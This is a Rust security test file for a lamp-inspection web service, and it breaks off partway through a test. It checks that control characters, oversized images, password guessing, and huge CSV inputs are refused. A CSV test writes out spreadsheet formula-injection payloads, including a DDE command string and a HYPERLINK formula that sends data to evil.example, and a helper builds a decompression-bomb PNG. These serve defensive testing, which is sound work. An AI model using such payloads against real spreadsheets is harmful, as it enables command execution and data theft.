//! Hostile input: control characters in text, a photo of too many pixels,
//! guessing the signature password, the last admin disabled, and CSV cells
//! that a spreadsheet would run as formulas.

use crate::common::{
    self, error_fields, scenario, upload_photo, Backend, Bulb, TestApp, TestDatabase, PASSWORD,
};
use diesel::connection::SimpleConnection;
use diesel::prelude::*;
use lotcheck::domain::access::Role;
use reqwest::StatusCode;
use serde_json::{json, Value};

/// Every text field of every JSON body refuses control characters (line
/// breaks and tabs only in free text), naming the field; the service
/// refuses them too, for callers that are not the API.
pub async fn control_characters_in_text_are_refused_naming_the_field(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 50).await;
    let order = |po: &str| json!({"customer_id": s.customer_id, "product_id": s.product_id, "po_number": po, "quantity": 10});
    for po in [
        "PO\u{7}42",
        "PO\n42",
        "PO\u{7f}42",
        "PO\u{85}42",
        "PO\u{0}42",
    ] {
        let (status, problem) = app.post("/api/v1/orders", &order(po)).await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{po:?}: {problem}"
        );
        assert_eq!(problem["code"], "validation_failed");
        assert_eq!(error_fields(&problem), ["po_number"], "{problem}");
    }
    // Nested fields are named by their path, every one at once.
    let (status, problem) = app
        .post(
            "/api/v1/products",
            &json!({"code": "BAD-1", "name": "Lamp\u{1b}[31m", "params": {"lamp_holder": "E27\u{0}"},
                    "characteristics": [{"code": "flux", "name": "Flux\u{9b}", "unit": "lm", "kind": "variable",
                                          "nominal": 806, "lsl": 725, "usl": 887, "severity": "major"}]}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    let mut fields = error_fields(&problem);
    fields.sort();
    assert_eq!(
        fields,
        ["characteristics[0].name", "name", "params.lamp_holder"],
        "{problem}"
    );

    // Free text keeps its line breaks and tabs, but no other control character.
    let (_, units) =
        common::draw_plan(&app, s.batch_id, json!({"method": "percent", "seed": 3})).await;
    let stored = common::record_bulbs(&app, s.batch_id, &units, |_| Bulb {
        flux: 800.0,
        power: 9.0,
        lights_up: 0,
    })
    .await;
    let reading = stored["measurements"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let path = format!("/api/v1/measurements/{reading}/corrections");
    let (status, problem) = app
        .post(
            &path,
            &json!({"value": 801.0, "reason": "re-measured\u{7}"}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert_eq!(error_fields(&problem), ["reason"]);
    let (status, corrected) = app
        .post(
            &path,
            &json!({"value": 801.0, "reason": "re-measured:\r\n\tthe probe had slipped"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{corrected}");

    // Straight through the service, as the command line and pages call it.
    let input = lotcheck::service::orders::NewOrder {
        customer_id: s.customer_id,
        product_id: s.product_id,
        po_number: "PO\u{7}43".into(),
        quantity: 10,
        due_date: None,
        warranty_months: None,
    };
    let refused = app
        .db
        .write_blocking(|c| {
            lotcheck::service::orders::create_order(
                c,
                &lotcheck::service::audit::Actor::system("test"),
                input,
            )
        })
        .unwrap_err();
    assert_eq!(refused.code, lotcheck::error::ErrorCode::ValidationFailed);
    assert_eq!(refused.errors[0].field, "po_number");
    let (_, orders) = app.get("/api/v1/orders").await;
    assert_eq!(orders["total"], 1, "nothing stored: {orders}");
    app.stop().await;
}

/// Should a control character reach the database anyway (an older
/// version, a hand edit), the charts and the report still render.
/// A NUL or another control character in a query filter or a sign-in name
/// is refused before it reaches the database (PostgreSQL refuses U+0000 in
/// text, which answered 500).
pub async fn control_characters_in_filters_and_sign_in_names_are_refused(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    for path in [
        "/api/v1/orders?po_number=PO%0042",
        "/api/v1/audit?subject=batch%2F1%07",
    ] {
        let (status, problem) = app.get(path).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}: {problem}");
        assert_eq!(problem["code"], "bad_query", "{path}");
        let field = path.split(['?', '=']).nth(1).unwrap();
        assert_eq!(error_fields(&problem), [field], "{path}");
    }
    let (status, _) = app.get("/api/v1/orders?po_number=PO-42").await;
    assert_eq!(status, StatusCode::OK, "a plain filter still answers");
    let page = app.client.get(app.url("/login")).send().await.unwrap();
    let csrf_cookie = page
        .headers()
        .get_all(reqwest::header::SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok()?.split(';').next())
        .find(|pair| pair.starts_with("lotcheck_login_csrf="))
        .expect("the sign-in page sets its CSRF cookie")
        .to_string();
    let html = page.text().await.unwrap();
    let token = html
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("the sign-in form carries its CSRF token");
    let form = app
        .client
        .post(app.url("/login"))
        .header(reqwest::header::COOKIE, csrf_cookie)
        .form(&[
            ("username", "admin\u{0}"),
            ("password", PASSWORD),
            ("csrf", token),
        ])
        .send()
        .await
        .unwrap();
    assert!(
        !form.status().is_server_error(),
        "sign-in with a NUL in the name: {}",
        form.status()
    );
    app.stop().await;
}

pub async fn charts_and_reports_render_with_control_characters_stored(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 50).await;
    let (_, units) = common::draw_plan(
        &app,
        s.batch_id,
        json!({"method": "iso2859-1", "aql": 1.0, "seed": 5}),
    )
    .await;
    common::record_bulbs(&app, s.batch_id, &units, |i| Bulb {
        flux: 800.0 + i as f64,
        power: 9.0,
        lights_up: 0,
    })
    .await;
    let order_id = s.order_id;
    app.db
        .write_blocking(move |c| {
            use lotcheck::store::schema::orders;
            diesel::update(orders::table.find(order_id))
                .set(orders::po_number.eq("PO\u{7}-\u{1}\u{fffe}-2026"))
                .execute(c)?;
            Ok(())
        })
        .unwrap();
    let charts = format!("/api/v1/batches/{}/charts", s.batch_id);
    for chart in ["histogram.svg?characteristic=flux", "oc-curve.svg"] {
        let (status, svg) = bytes(&app, &format!("{charts}/{chart}")).await;
        assert_eq!(
            status,
            StatusCode::OK,
            "{chart}: {}",
            String::from_utf8_lossy(&svg)
        );
        let text = String::from_utf8(svg).unwrap();
        roxmltree::Document::parse(&text).unwrap_or_else(|e| panic!("{chart}: {e}"));
        assert!(
            text.contains("PO--2026"),
            "{chart}: the title keeps the rest"
        );
    }
    for chart in [
        format!("{charts}/histogram.png?characteristic=flux"),
        format!("/api/v1/orders/{order_id}/charts/histogram.png?characteristic=flux"),
    ] {
        let (status, png) = bytes(&app, &chart).await;
        assert_eq!(status, StatusCode::OK, "{chart}");
        assert!(png.starts_with(b"\x89PNG"), "{chart}");
    }
    let (status, pdf) = bytes(
        &app,
        &format!("/api/v1/orders/{order_id}/report.pdf?draft=true"),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&pdf));
    assert!(pdf.starts_with(b"%PDF"));
    let (status, issued) = app
        .post(
            &format!("/api/v1/orders/{order_id}/reports?with_undecided_batches=true"),
            &json!({}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{issued}");
    app.stop().await;
}

async fn bytes(app: &common::Http, path: &str) -> (StatusCode, Vec<u8>) {
    let response = app
        .request(reqwest::Method::GET, path)
        .send()
        .await
        .unwrap();
    (response.status(), response.bytes().await.unwrap().to_vec())
}

/// A valid PNG of `width` × `height` black pixels, 1 bit each, its
/// zeros deflated by hand (a length-258 match after another): 12,000 ×
/// 12,000 pixels in about 110 KB, made in milliseconds.
fn black_png(width: u32, height: u32) -> Vec<u8> {
    fn crc32(bytes: &[u8]) -> u32 {
        let mut crc = !0u32;
        for &byte in bytes {
            crc ^= byte as u32;
            for _ in 0..8 {
                crc = if crc & 1 == 1 {
                    (crc >> 1) ^ 0xEDB8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }
    fn chunk(png: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        png.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let start = png.len();
        png.extend_from_slice(kind);
        png.extend_from_slice(data);
        let crc = crc32(&png[start..]);
        png.extend_from_slice(&crc.to_be_bytes());
    }
    struct Bits {
        out: Vec<u8>,
        acc: u64,
        n: u32,
    }
    impl Bits {
        fn put(&mut self, value: u32, bits: u32) {
            self.acc |= (value as u64) << self.n;
            self.n += bits;
            while self.n >= 8 {
                self.out.push(self.acc as u8);
                self.acc >>= 8;
                self.n -= 8;
            }
        }
        /// A Huffman code goes most significant bit first.
        fn code(&mut self, code: u32, bits: u32) {
            let reversed = (0..bits).fold(0, |r, i| r | (((code >> i) & 1) << (bits - 1 - i)));
            self.put(reversed, bits);
        }
    }
    let total = height as u64 * (1 + width.div_ceil(8) as u64);
    let mut bits = Bits {
        out: vec![0x78, 0x01],
        acc: 0,
        n: 0,
    };
    bits.put(1, 1); // the final block
    bits.put(1, 2); // fixed Huffman codes
    let literal_zero = |bits: &mut Bits| bits.code(0x30, 8);
    literal_zero(&mut bits);
    for _ in 0..(total - 1) / 258 {
        bits.code(0xC5, 8); // length 258 (code 285)
        bits.code(0, 5); // distance 1
    }
    for _ in 0..(total - 1) % 258 {
        literal_zero(&mut bits);
    }
    bits.code(0, 7); // end of block
    if bits.n > 0 {
        bits.out.push(bits.acc as u8);
    }
    let adler = (((total % 65521) as u32) << 16) | 1;
    let mut zlib = bits.out;
    zlib.extend_from_slice(&adler.to_be_bytes());
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = Vec::new();
    header.extend_from_slice(&width.to_be_bytes());
    header.extend_from_slice(&height.to_be_bytes());
    header.extend_from_slice(&[1, 0, 0, 0, 0]); // 1 bit, grey, deflate, no interlace
    chunk(&mut png, b"IHDR", &header);
    chunk(&mut png, b"IDAT", &zlib);
    chunk(&mut png, b"IEND", &[]);
    png
}

/// A photo is measured from its header before it is decoded: 144
/// megapixels in a small file are refused and nothing is stored.
pub async fn a_photo_of_too_many_pixels_is_refused_before_decoding(backend: Backend) {
    let huge = black_png(12_000, 12_000);
    assert!(huge.len() < 200_000, "{} bytes", huge.len());
    let small = black_png(640, 480);
    let decoded = image::load_from_memory(&small).expect("the hand-made PNG is valid");
    assert_eq!((decoded.width(), decoded.height()), (640, 480));

    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 5).await;
    app.create(
        "/api/v1/defect-types",
        json!({"family": "general", "code": "scratch", "name": "Scratch", "severity": "minor"}),
    )
    .await;
    let recorded = app
        .create(
            &format!("/api/v1/batches/{}/inspections", s.batch_id),
            json!({"inspections": [{"unit": 2, "defects": [{"defect": "scratch"}]}]}),
        )
        .await;
    let inspection = recorded["inspections"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let (status, problem) = upload_photo(&app, &inspection, huge).await;
    assert!(
        status == StatusCode::PAYLOAD_TOO_LARGE || status == StatusCode::UNPROCESSABLE_ENTITY,
        "{status}: {problem}"
    );
    assert_eq!(error_fields(&problem), ["photo"], "{problem}");
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("12000 × 12000"),
        "{problem}"
    );
    let (_, seen) = app.get(&format!("/api/v1/inspections/{inspection}")).await;
    assert_eq!(seen["photos"].as_array().unwrap().len(), 0, "{seen}");
    let (status, stored) = upload_photo(&app, &inspection, small).await;
    assert_eq!(status, StatusCode::CREATED, "{stored}");
    app.stop().await;
}

/// The signature's password is the sign-in password: wrong ones count
/// with the failed sign-ins, are slowed, then refused (429) even when
/// right, until the window ends; each is audited.
pub async fn wrong_signature_passwords_count_as_failed_sign_ins(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 20).await;
    let lead = app.signed_in("leila", Role::Lead, None).await;
    let path = format!("/api/v1/batches/{}/disposition", s.batch_id);
    let sign = |password: &str| json!({"password": password, "meaning": "rejected", "comment": "no data yet"});
    let lock_after = lotcheck::service::auth::AuthSettings::default().lock_user_after;
    for _ in 0..lock_after {
        let (status, problem) = lead.post(&path, &sign("guess, guess")).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
        assert_eq!(error_fields(&problem), ["password"]);
    }
    for password in ["guess again", PASSWORD] {
        let (status, problem) = lead.post(&path, &sign(password)).await;
        assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{problem}");
        assert_eq!(problem["code"], "too_many_attempts");
    }
    // The same count locks the sign-in.
    let (status, problem) = app
        .with_token(None)
        .post(
            "/api/v1/auth/token",
            &json!({"username": "leila", "password": PASSWORD}),
        )
        .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{problem}");
    let (_, disposition) = app.get(&path).await;
    assert_eq!(disposition["history"].as_array().unwrap().len(), 0);

    let (_, audit) = app
        .get("/api/v1/audit?action=signature.&per_page=100")
        .await;
    let actions: Vec<&str> = audit["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    let count = |action: &str| actions.iter().filter(|a| **a == action).count();
    assert_eq!(count("signature.refused"), lock_after as usize, "{audit}");
    assert_eq!(count("signature.locked"), 2, "{audit}");

    // When the window has passed, the right password signs.
    app.db
        .write_blocking(|c| {
            use lotcheck::store::schema::login_attempts;
            let long_ago = lotcheck::store::now() - chrono::TimeDelta::hours(1);
            diesel::update(login_attempts::table)
                .set(login_attempts::attempted_at.eq(long_ago))
                .execute(c)?;
            Ok(())
        })
        .unwrap();
    let (status, signed) = lead.post(&path, &sign(PASSWORD)).await;
    assert_eq!(status, StatusCode::CREATED, "{signed}");
    app.stop().await;
}

fn cli(app: &TestApp, args: &[&str]) -> (bool, String) {
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_lotcheck"))
        .args(args)
        .env("DATABASE_URL", &app.database.url)
        .env("LOTCHECK_LOG", "warn")
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    (output.status.success(), text)
}

fn user_id(users: &Value, name: &str) -> i64 {
    users
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["username"] == name)
        .unwrap_or_else(|| panic!("{name} in {users}"))["id"]
        .as_i64()
        .unwrap()
}

/// The last active admin cannot be disabled, by the API or the command
/// line, not even by itself; a disabled user is enabled again by either.
pub async fn the_last_active_admin_stays_and_users_are_enabled_again(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, users) = app.get("/api/v1/users").await;
    let admin = user_id(&users, "admin");
    let (status, problem) = app
        .post(&format!("/api/v1/users/{admin}/disable"), &json!({}))
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{problem}");
    assert_eq!(problem["code"], "last_admin");
    let (ok, text) = cli(&app, &["user", "disable", "--username", "admin"]);
    assert!(!ok, "{text}");
    assert!(text.contains("last active admin"), "{text}");

    // With a second admin, either may go, but not both.
    let second = app.signed_in("root2", Role::Admin, None).await;
    let (_, users) = app.get("/api/v1/users").await;
    let root2 = user_id(&users, "root2");
    let (status, disabled) = second
        .post(&format!("/api/v1/users/{admin}/disable"), &json!({}))
        .await;
    assert_eq!(status, StatusCode::OK, "{disabled}");
    assert_eq!(disabled["disabled"], true);
    let (status, problem) = second
        .post(&format!("/api/v1/users/{root2}/disable"), &json!({}))
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{problem}");
    assert_eq!(problem["code"], "last_admin");
    let (ok, text) = cli(&app, &["user", "disable", "--username", "root2"]);
    assert!(!ok, "{text}");

    // The command line enables a user again; then root2 may go.
    let (ok, text) = cli(&app, &["user", "enable", "--username", "admin"]);
    assert!(ok, "{text}");
    assert!(text.contains("enabled user admin"), "{text}");
    let admin_again = app.http.login("admin", PASSWORD).await;
    let (ok, text) = cli(&app, &["user", "disable", "--username", "root2"]);
    assert!(ok, "{text}");
    let (status, _) = second.get("/api/v1/users").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    // And so does the API.
    let (status, enabled) = admin_again
        .post(&format!("/api/v1/users/{root2}/enable"), &json!({}))
        .await;
    assert_eq!(status, StatusCode::OK, "{enabled}");
    assert_eq!(enabled["disabled"], false);
    app.http.login("root2", PASSWORD).await;
    let (_, audit) = admin_again.get("/api/v1/audit?action=user.enable").await;
    assert_eq!(audit["total"], 2, "{audit}");
    app.stop().await;
}

/// Text cells of the CSV cannot start a formula in a spreadsheet; numbers
/// stay numbers.
pub async fn csv_text_cells_cannot_start_a_formula(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let customer = app
        .create("/api/v1/customers", json!({"name": "=cmd|' /C calc'!A0"}))
        .await;
    let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let product = app
        .create(
            "/api/v1/products",
            json!({"code": "OFFSET-1", "name": "Offset gauge", "characteristics": [
                {"code": "offset", "name": hyperlink, "unit": "@SUM(A1:A9)", "kind": "variable",
                 "nominal": 0, "lsl": -2, "usl": 2, "severity": "major"}]}),
        )
        .await;
    let order = app
        .create(
            "/api/v1/orders",
            json!({"customer_id": customer["id"], "product_id": product["id"], "po_number": "+1-555-0100", "quantity": 100}),
        )
        .await;
    let order_id = order["id"].as_i64().unwrap();
    let batch_id = common::new_batch(&app, order_id, 50).await;
    let (_, units) =
        common::draw_plan(&app, batch_id, json!({"method": "percent", "seed": 1})).await;
    let readings = units
        .iter()
        .map(|u| json!({"unit": u, "characteristic": "offset", "value": -1.5}))
        .collect();
    common::record_readings(&app, batch_id, readings).await;
    let (status, body) = bytes(&app, &format!("/api/v1/orders/{order_id}/report.csv")).await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(body.as_slice());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), units.len());
    let cell = |row: &csv::StringRecord, name: &str| {
        row[header.iter().position(|h| h == name).unwrap()].to_string()
    };
    for row in &rows {
        assert_eq!(cell(row, "po_number"), "'+1-555-0100");
        assert_eq!(cell(row, "name"), format!("'{hyperlink}"));
        assert_eq!(cell(row, "unit_of_measure"), "'@SUM(A1:A9)");
        assert_eq!(cell(row, "characteristic"), "offset");
        assert_eq!(cell(row, "value"), "-1.5");
        assert_eq!(cell(row, "lsl"), "-2");
        assert_eq!(cell(row, "usl"), "2");
        assert_eq!(cell(row, "conforming"), "true");
    }
    app.stop().await;
}

/// A GET that must answer within `seconds`: (status, body).
async fn get_within(app: &common::Http, path: &str, seconds: u64) -> (StatusCode, Vec<u8>) {
    let response = app
        .request(reqwest::Method::GET, path)
        .timeout(std::time::Duration::from_secs(seconds))
        .send()
        .await
        .unwrap_or_else(|e| panic!("GET {path} did not answer in {seconds} s: {e}"));
    let status = response.status();
    (status, response.bytes().await.unwrap().to_vec())
}

/// Uploads `csv` into a batch with the given form fields; answers the
/// status, the answer's size in bytes and its JSON.
async fn import(
    app: &common::Http,
    batch_id: i64,
    csv: Vec<u8>,
    fields: &[(&str, String)],
) -> (StatusCode, usize, Value) {
    let mut form = reqwest::multipart::Form::new().part(
        "file",
        reqwest::multipart::Part::bytes(csv).file_name("export.csv"),
    );
    for (name, value) in fields {
        form = form.text(name.to_string(), value.clone());
    }
    let response = app
        .request(
            reqwest::Method::POST,
            &format!("/api/v1/batches/{batch_id}/imports"),
        )
        .multipart(form)
        .timeout(std::time::Duration::from_secs(120))
        .send()
        .await
        .expect("the import answers");
    let status = response.status();
    let body = response.bytes().await.unwrap();
    let json = serde_json::from_slice(&body).unwrap_or(Value::Null);
    (status, body.len(), json)
}

/// A new batch of `lot_size` units with every unit drawn; answers its id
/// and the units.
async fn batch_inspected_whole(
    app: &common::Http,
    order_id: i64,
    lot_size: i64,
) -> (i64, Vec<i64>) {
    let batch_id = common::new_batch(app, order_id, lot_size).await;
    let (_, units) = common::draw_plan(
        app,
        batch_id,
        json!({"method": "percent", "percent": 100, "seed": 7}),
    )
    .await;
    (batch_id, units)
}

/// Readings of 1e308 pass as finite numbers but are no quantity a lamp
/// factory measures: they are refused where readings enter (a request, a
/// correction, a CSV file, the command line's import), naming the item,
/// the row and the column; readings at the limit are kept and chart.
pub async fn implausible_readings_are_refused_where_they_enter(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 20).await;
    let (_, units) = common::draw_plan(
        &app,
        s.batch_id,
        json!({"method": "percent", "percent": 100, "seed": 1}),
    )
    .await;
    let path = format!("/api/v1/batches/{}/measurements", s.batch_id);
    let (status, problem) = app
        .post(
            &path,
            &json!({"measurements": [
                {"unit": units[0], "characteristic": "flux", "value": 806.0},
                {"unit": units[1], "characteristic": "flux", "value": 1e308},
                {"unit": units[2], "characteristic": "power", "value": -1e308},
            ]}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert_eq!(
        error_fields(&problem),
        ["measurements[1].value", "measurements[2].value"],
        "{problem}"
    );
    assert!(
        problem["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("1e9"),
        "the message states the range: {problem}"
    );
    let (_, page) = app.get(&path).await;
    assert_eq!(page["total"], 0, "nothing stored: {page}");

    // A correction to an implausible value.
    let stored = common::record_bulbs(&app, s.batch_id, &units, |i| Bulb {
        flux: 800.0 + i as f64,
        power: 9.0,
        lights_up: 0,
    })
    .await;
    let reading = stored["measurements"][0]["id"].as_str().unwrap();
    let (status, problem) = app
        .post(
            &format!("/api/v1/measurements/{reading}/corrections"),
            &json!({"value": 1e308, "reason": "re-measured"}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert_eq!(error_fields(&problem), ["value"], "{problem}");

    // A CSV file, through the API and the command line.
    let (batch, units) = batch_inspected_whole(&app, s.order_id, 20).await;
    let csv = format!(
        "unit,flux,power\n{},806,9\n{},807,-1e308\n{},1e308,9\n",
        units[0], units[1], units[2]
    );
    let (status, _, problem) = import(&app, batch, csv.clone().into_bytes(), &[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert_eq!(
        error_fields(&problem),
        ["rows[3].power", "rows[4].flux"],
        "{problem}"
    );
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("export.csv");
    std::fs::write(&file, &csv).unwrap();
    let (ok, text) = cli(
        &app,
        &[
            "import",
            "--batch",
            &batch.to_string(),
            file.to_str().unwrap(),
        ],
    );
    assert!(!ok, "{text}");
    assert!(
        text.contains("rows[3].power") && text.contains("rows[4].flux"),
        "{text}"
    );
    let (_, page) = app
        .get(&format!("/api/v1/batches/{batch}/measurements"))
        .await;
    assert_eq!(page["total"], 0, "nothing stored: {page}");

    // At the limit: stored, described and drawn.
    common::record_readings(
        &app,
        batch,
        vec![
            json!({"unit": units[0], "characteristic": "flux", "value": 1e9}),
            json!({"unit": units[1], "characteristic": "flux", "value": -1e9}),
            json!({"unit": units[2], "characteristic": "flux", "value": 5e8}),
        ],
    )
    .await;
    let (_, stats) = app
        .get(&format!("/api/v1/batches/{batch}/statistics"))
        .await;
    let flux = &stats["characteristics"][0];
    assert!(flux["mean"].as_f64().unwrap().is_finite(), "{stats}");
    assert!(flux["std_dev"].as_f64().unwrap() > 1e8, "{stats}");
    let (status, _) = get_within(
        &app,
        &format!("/api/v1/batches/{batch}/charts/histogram.svg?characteristic=flux"),
        30,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    app.stop().await;
}

/// Readings stored before the range was checked (an older version, a hand
/// edit), at ±1e308, leave every route answering in time: the statistics
/// finite, the histogram, the control chart and the report a 409 that
/// names the characteristic, instead of a thread spinning for ever.
pub async fn readings_stored_beyond_the_range_leave_every_route_answering(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 5).await;
    let (_, first) = common::draw_plan(
        &app,
        s.batch_id,
        json!({"method": "percent", "percent": 100, "seed": 1}),
    )
    .await;
    let (second, units) = batch_inspected_whole(&app, s.order_id, 5).await;
    for (batch, units) in [(s.batch_id, &first), (second, &units)] {
        common::record_bulbs(&app, batch, units, |i| Bulb {
            flux: 800.0 + i as f64,
            power: 9.0 + i as f64 / 10.0,
            lights_up: 0,
        })
        .await;
    }
    app.db
        .write_blocking(|c| {
            use lotcheck::store::schema::measurements::dsl::*;
            diesel::update(measurements.filter(value.gt(700.0)))
                .set(value.eq(1e308))
                .execute(c)?;
            diesel::update(measurements.filter(value.eq(1e308).and(unit.le(2))))
                .set(value.eq(-1e308))
                .execute(c)?;
            Ok(())
        })
        .unwrap();

    let (status, body) = get_within(
        &app,
        &format!("/api/v1/batches/{}/statistics", s.batch_id),
        30,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let stats: Value = serde_json::from_slice(&body).unwrap();
    let flux = &stats["characteristics"][0];
    assert_eq!(flux["code"], "flux", "{stats}");
    assert!(flux["mean"].as_f64().is_some_and(f64::is_finite), "{stats}");
    assert!(
        flux["std_dev"]
            .as_f64()
            .is_some_and(|s| s > 1e307 && s.is_finite()),
        "{stats}"
    );
    let product = s.product_id;
    let order = s.order_id;
    for path in [
        format!(
            "/api/v1/batches/{}/charts/histogram.svg?characteristic=flux",
            s.batch_id
        ),
        format!("/api/v1/orders/{order}/charts/histogram.png?characteristic=flux"),
        format!(
            "/api/v1/products/{product}/charts/control-chart.svg?characteristic=flux&chart=xbar-r"
        ),
        format!(
            "/api/v1/products/{product}/charts/control-chart.svg?characteristic=flux&chart=i-mr"
        ),
        format!("/api/v1/orders/{order}/report.pdf?draft=true"),
    ] {
        let (status, body) = get_within(&app, &path, 30).await;
        let problem: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
        assert_eq!(status, StatusCode::CONFLICT, "{path}: {problem}");
        assert!(
            problem["detail"]
                .as_str()
                .unwrap_or_default()
                .contains("flux"),
            "{path}: {problem}"
        );
    }
    // The other characteristic still charts.
    let (status, _) = get_within(
        &app,
        &format!(
            "/api/v1/batches/{}/charts/histogram.svg?characteristic=power",
            s.batch_id
        ),
        30,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    app.stop().await;
}

/// A problem quotes at most a short prefix of what it is about, and an
/// answer lists at most 100 problems: a 5 MB cell, a 256 KB header or
/// hundreds of mapping entries that match no column give answers of a few
/// KB that still name the row and the column.
pub async fn import_problems_stay_short_however_long_the_input(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 20).await;
    let (batch, units) = batch_inspected_whole(&app, s.order_id, 20).await;

    // One cell of 5 MB.
    let mut csv = format!("unit,flux,power\n{},806,9\n{},", units[0], units[1]).into_bytes();
    csv.extend(std::iter::repeat_n(b'x', 5 << 20));
    csv.extend_from_slice(b",9\n");
    let (status, size, problem) = import(&app, batch, csv, &[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert!(size < 4096, "{size} bytes: {problem}");
    assert_eq!(error_fields(&problem), ["rows[3].flux"], "{problem}");
    let message = problem["errors"][0]["message"].as_str().unwrap();
    assert!(message.contains("line 3"), "{message}");

    // A cell long enough to be read, not a number: quoted by its start.
    let long = "y".repeat(20_000);
    let csv = format!("unit,flux,power\n{},{long},9\n", units[0]);
    let (status, size, problem) = import(&app, batch, csv.into_bytes(), &[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert!(size < 2048, "{size} bytes: {problem}");
    assert_eq!(error_fields(&problem), ["rows[2].flux"], "{problem}");
    assert!(
        problem["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("yyy…"),
        "{problem}"
    );

    // A header of 256 KB and 200 mapping entries that match no column.
    let mapping: serde_json::Map<String, Value> = (0..200)
        .map(|i| (format!("missing column {i:03}"), json!("flux")))
        .collect();
    let mapping = Value::Object(mapping).to_string();
    let mut csv = b"unit,flux,".to_vec();
    csv.extend(std::iter::repeat_n(b'h', 256 << 10));
    csv.extend_from_slice(format!("\n{},806,1\n", units[0]).as_bytes());
    let (status, size, problem) = import(&app, batch, csv, &[("mapping", mapping.clone())]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert!(size < 4096, "{size} bytes: {problem}");
    assert!(
        problem.to_string().contains("line 1"),
        "the header line is named: {problem}"
    );

    // A header within bounds with 200 long mapping keys: 100 problems
    // listed, each quoting a prefix, the rest counted.
    let header = (0..100)
        .map(|i| format!("{}{i:03}", "c".repeat(300)))
        .collect::<Vec<_>>()
        .join(",");
    let mapping: serde_json::Map<String, Value> = (0..200)
        .map(|i| (format!("{}{i:03}", "k".repeat(250)), json!("flux")))
        .collect();
    let csv = format!("unit,{header}\n{},806\n", units[0]);
    let (status, size, problem) = import(
        &app,
        batch,
        csv.into_bytes(),
        &[("mapping", Value::Object(mapping).to_string())],
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert!(size < 40_000, "{size} bytes");
    let errors = problem["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 101, "100 listed and a count: {problem}");
    assert!(
        errors[100]["message"]
            .as_str()
            .unwrap()
            .contains("100 more"),
        "{}",
        errors[100]
    );
    let (_, page) = app
        .get(&format!("/api/v1/batches/{batch}/measurements"))
        .await;
    assert_eq!(page["total"], 0);
    app.stop().await;
}

/// A lot is at most a million units and a plan draws at most 200,000: a
/// lot of ten million is refused when the batch is created, and a plan
/// of 100% on a lot that large (stored before the bound) is refused at
/// once, naming the field, with nothing stored.
pub async fn lots_and_drawn_samples_are_bounded(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let s = scenario(&app, 50).await;
    let batches = format!("/api/v1/orders/{}/batches", s.order_id);
    for lot_size in [10_000_000, 1_000_001] {
        let started = std::time::Instant::now();
        let (status, problem) = app.post(&batches, &json!({ "lot_size": lot_size })).await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{lot_size}: {problem}"
        );
